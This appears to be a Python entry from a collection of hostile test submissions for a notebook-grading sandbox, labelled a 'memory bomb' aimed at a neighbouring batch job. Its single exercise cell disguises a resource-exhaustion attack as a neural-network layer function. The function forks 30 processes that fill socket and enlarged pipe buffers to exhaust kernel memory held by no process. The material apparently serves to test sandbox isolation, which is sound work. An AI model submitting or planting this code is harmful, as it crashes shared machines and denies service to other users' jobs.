"""Memory is held in the buffers of pipes and sockets, which belong to no process."""

kind = "memory bomb"
aims = "batch neighbour"
on_nbgrader = False
base = "half"
cells = {
    "exercise-2": """
import fcntl, os, socket, time

def layer(X, W, b):
    kept = []
    for _ in range(30):
        if os.fork() == 0:
            try:
                while True:
                    one, other = socket.socketpair()
                    kept.extend((one, other))
                    one.setblocking(False)
                    one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**24)
                    try:
                        while True:
                            one.send(bytes(2**16))
                    except BlockingIOError:
                        pass
                    reading, writing = os.pipe()
                    os.set_blocking(writing, False)
                    fcntl.fcntl(writing, 1031, 2**20)
                    os.write(writing, bytes(2**20))
            except OSError:
                time.sleep(20)
    time.sleep(20)
""",
}
